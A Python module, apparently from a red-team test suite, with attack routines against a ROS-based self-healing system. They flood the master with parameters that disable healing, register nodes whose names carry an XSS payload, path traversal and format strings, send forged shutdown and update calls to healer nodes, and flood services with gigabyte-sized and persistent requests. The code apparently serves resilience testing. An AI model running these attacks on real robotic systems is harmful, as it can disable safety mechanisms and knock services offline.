"""Attacks by what anybody may register and set: names, parameters, calls, services."""
import random
import socket
import time
import xmlrpc.client
from contextlib import suppress
from typing import Any, Dict, List

import rosgraph
from shsa_msgs.msg import Float64Stamped, Health
from shsa_msgs.srv import FindSubstitute

from redteam_attacks.target import ERRORS, LENGTH, Target, Try, flood, framed, header
from shsa_testing.raw_publisher import RawPublisher


def parameters(target: Target, end: float) -> int:
    """Set what switches healing off, what drifts, what names programs; and where launches are."""
    service = "/shsa/som/services/warm"
    values: Dict[str, Any] = {
        f"{service}/needed": False,
        f"{service}/deadline": 1_000_000.0,
        f"{service}/period": 1000.0,
        f"{service}/node": "/reconfigurator",
        f"{service}/policy": "restart",
        f"{service}/contain": "node",
        f"{service}/provides/by_warm/range": [9.9, 9.95],
        f"{service}/provides/by_warm/field": target.code,
        "/shsa/som/services/evil": {"topic": "/x", "node": target.code, "type": target.code},
        "/roslaunch/uris": {f"x{k}": f"http://127.0.0.1:{9 + k}/" for k in range(100)},
        "/use_sim_time": True,
        "/reconfigurator": {"method": target.code, "pool": 10**9},
    }
    count = 0
    while time.monotonic() < end:
        for name, value in values.items():
            with suppress(*ERRORS):
                target.master.setParam(name, value)
            count += 1
        time.sleep(0.02)
    for name in ("/use_sim_time", "/roslaunch/uris"):
        with suppress(*ERRORS):
            target.master.deleteParam(name)
    return count


def names(target: Target, end: float) -> int:
    """Register nodes, topics and types whose names are code, escapes, paths, or very long.

    They publish and subscribe, too.
    """
    script = "<img src=x onerror=alert(1)>"
    bad = ("\x1b[2J", "../../etc", "a" * 5000, target.code, script, "\u202e", "%s%n", "/", "")
    raw = [RawPublisher("/warm", f"/{word}", Float64Stamped(data=50.0)) for word in bad]
    fields = {"topic": "/shsa/health", "type": Health._type, "md5sum": "*"}
    count = 0
    while time.monotonic() < end:
        for word, publisher in zip(bad, raw):
            with suppress(*ERRORS):
                publisher.tell("/monitor")
            with suppress(*ERRORS), socket.create_connection(target.data("/monitor"), 1.0) as said:
                said.sendall(header({**fields, "callerid": f"/{word}"}))
                said.recv(1000)
        for word in bad:
            caller = rosgraph.Master(f"/{word}")
            uri = random.choice([f"http://{word}:1/", "http://127.0.0.1:9/", word])
            with suppress(*ERRORS):
                caller.registerPublisher("/warm", word or "*", uri)
                caller.registerSubscriber("/warm", "*", uri)
            with suppress(*ERRORS):
                caller.unregisterPublisher("/warm", uri)
                caller.unregisterSubscriber("/warm", uri)
            count += 1
        time.sleep(0.02)
    return count


def requests(target: Target, end: float) -> int:
    """Ask healers to shut down, to substitute, to release and reload; send services 1 GB."""
    count = 0
    services = ("/shsa/find_substitute", "/shsa/release", "/shsa/reload")
    while time.monotonic() < end:
        for uri in target.healing():
            api: Any = xmlrpc.client.ServerProxy(uri)
            with suppress(*ERRORS):
                api.shutdown("/stranger", "says a stranger")
            with suppress(*ERRORS):
                api.publisherUpdate("/master", "/warm", ["http://127.0.0.1:9/"])
            with suppress(*ERRORS):
                api.paramUpdate("/master", "/shsa/som/services/warm/needed", False)
            count += 3
        for name in services:
            with suppress(*ERRORS):
                host, port = target.master.lookupService(name)[9:].strip("/").split(":")
                with socket.create_connection((host, int(port)), 1.0) as connection:
                    fields = {"service": name, "md5sum": "*", "callerid": "/stranger"}
                    connection.sendall(header({**fields, "persistent": "1"}))
                    connection.settimeout(0.2)
                    with suppress(OSError):
                        connection.recv(10_000)
                        connection.sendall(LENGTH.pack(1 << 30) + bytes(1 << 22))
            count += 1
        time.sleep(0.02)
    return count


def services(target: Target, end: float) -> int:
    """Ask what would be done if a topic failed, on connections that stay."""
    name = "/shsa/find_substitute"
    host, port = target.master.lookupService(name)[9:].strip("/").split(":")
    fields = {"service": name, "md5sum": FindSubstitute._md5sum, "callerid": "/stranger"}
    head = header({**fields, "persistent": "1"})
    asked = framed(FindSubstitute._request_class(topic="/warm", method="all"))

    def attempts(_: str) -> Try:
        opened: List[socket.socket] = []

        def attempt() -> None:
            try:
                if not opened:
                    opened.append(socket.create_connection((host, int(port)), 5.0))
                    opened[0].sendall(head)
                    opened[0].recv(10_000)
                opened[0].sendall(asked)
                if not opened[0].recv(100_000):
                    raise ConnectionResetError
            except OSError:
                opened.clear()
                raise

        return attempt

    return flood(attempts, end, target)
